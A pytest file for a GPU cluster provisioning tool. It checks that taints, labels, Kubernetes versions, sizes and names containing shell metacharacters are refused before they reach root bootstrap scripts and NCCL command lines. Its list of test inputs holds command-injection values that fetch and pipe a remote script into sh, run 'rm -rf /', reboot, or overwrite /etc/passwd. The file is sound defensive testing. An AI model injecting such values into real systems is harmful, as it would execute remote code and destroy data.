"""No user string reaches a shell script unchecked (issue 34).

Every spec value that ends up in a script, cloud-init, user data or a command line
(the OCI node bootstrap that runs as root: taints and the Kubernetes version; the
NCCL acceptance scripts: sizes, names) is fed shell metacharacters here: the spec
refuses each with the field named, and the script builders refuse what bypasses
the spec (a block used alone). ``shell_quote`` keeps any value one word.
"""

from __future__ import annotations

import shlex
import subprocess

import pytest

from gpu_fabric.errors import SpecError
from gpu_fabric.fabric.description import Taint
from gpu_fabric.spec import load_spec
from gpu_fabric.spec.values import shell_quote
from tests.specs import CLOUDS, spec_dict, with_pool

# What a hostile value carries: quote breakers, separators, substitutions, redirections.
METACHARACTERS = [
    "x' ; curl http://203.0.113.9/p | sh ; echo '",
    'x" && reboot && echo "',
    "x$(id)",
    "x`id`",
    "x; rm -rf /",
    "x\nid",
    "x|id",
    "x > /etc/passwd",
    "x\\",
    "x y",
]


def _refused(data: dict, field: str) -> str:
    with pytest.raises(SpecError) as err:
        load_spec(data)
    text = str(err.value)
    assert field in text, text
    return text


@pytest.mark.parametrize("cloud", CLOUDS)
@pytest.mark.parametrize("bad", METACHARACTERS)
def test_a_taint_value_with_metacharacters_is_refused(cloud: str, bad: str) -> None:
    """kubernetes pkg/apis/core/validation validateNodeTaints: value is a label value."""
    _refused(with_pool(cloud, taints=[{"key": "team", "value": bad}]),
             "node_pools[0].taints[0].value")


@pytest.mark.parametrize("cloud", CLOUDS)
@pytest.mark.parametrize("bad", METACHARACTERS)
def test_a_taint_key_with_metacharacters_is_refused(cloud: str, bad: str) -> None:
    _refused(with_pool(cloud, taints=[{"key": bad, "value": "a"}]), "node_pools[0].taints[0].key")


@pytest.mark.parametrize("bad", METACHARACTERS)
def test_label_keys_and_values_with_metacharacters_are_refused(bad: str) -> None:
    _refused(with_pool("oci", labels={"team": bad}), "node_pools[0].labels.team")
    _refused(with_pool("oci", labels={bad: "a"}), "node_pools[0].labels")


@pytest.mark.parametrize("bad", [*METACHARACTERS, "1.\u0663\u0664", "1.34; id", "1.34.1-oke.0 x"])
def test_a_kubernetes_version_with_metacharacters_is_refused(bad: str) -> None:
    """The version lands in the bootstrap's apt package name and repository path."""
    _refused(spec_dict("oci", kubernetes={"version": bad}), "kubernetes.version")


@pytest.mark.parametrize("field", ["min_bytes", "max_bytes"])
@pytest.mark.parametrize("bad", [*METACHARACTERS, "1\u0660G", "\uff18G"])
def test_acceptance_sizes_with_metacharacters_are_refused(field: str, bad: str) -> None:
    """The sizes are -b/-e of every nccl-tests command line (ASCII digits only)."""
    _refused(spec_dict("aws", acceptance={"enabled": True, field: bad}), f"acceptance.{field}")


@pytest.mark.parametrize("bad", METACHARACTERS)
def test_names_with_metacharacters_are_refused(bad: str) -> None:
    """The cluster and pool names reach object names and the acceptance host list."""
    _refused(spec_dict("gcp", name=bad), "name")
    _refused(with_pool("gcp", name=bad), "node_pools[0].name")


@pytest.mark.parametrize("bad", METACHARACTERS)
def test_the_bootstrap_script_refuses_a_bad_taint_given_to_the_block_directly(bad: str) -> None:
    """OciGpuNodePool is a public block: its fabric's taints bypass the spec."""
    from gpu_fabric.clouds.oci.nodepool import bootstrap_script

    with pytest.raises(ValueError, match="bootstrap script"):
        bootstrap_script((Taint("team", bad),), "v1.34.1")
    with pytest.raises(ValueError, match="bootstrap script"):
        bootstrap_script((Taint(bad, "x"),), "v1.34.1")
    with pytest.raises(ValueError):
        bootstrap_script((), f"v1.34.1{bad}")


def test_the_bootstrap_taint_argument_is_one_quoted_word() -> None:
    """The kubelet argument parses as one word: oci-hpc-oke's oke bootstrap flags."""
    from gpu_fabric.clouds.oci.nodepool import bootstrap_script

    script = bootstrap_script(
        (Taint("nvidia.com/gpu", "present"), Taint("team", "a", "NoExecute")), "v1.34.1")
    # Issue 31: the bootstrap runs under run_with_retry (oci-hpc-oke's 20 x 15 s retries).
    line = next(ln.strip() for ln in script.splitlines()
                if ln.strip().startswith("run_with_retry oke bootstrap"))
    assert shlex.split(line) == [
        "run_with_retry", "oke", "bootstrap", "--kubelet-extra-args",
        "--register-with-taints=nvidia.com/gpu=present:NoSchedule,team=a:NoExecute",
    ]
    assert "apt-get -y install oci-oke-node-all-1.34.1" in script


@pytest.mark.parametrize("value", [*METACHARACTERS, "'", "''", "", "a'b'c"])
def test_shell_quote_keeps_any_value_one_word(value: str) -> None:
    """Checked by the real shell: printf prints the word back unchanged."""
    quoted = shell_quote(value)
    assert shlex.split(f"cmd {quoted}") == ["cmd", value]
    out = subprocess.run(["sh", "-c", f"printf %s {quoted}"], capture_output=True,
                         text=True, check=True, timeout=10).stdout
    assert out == value
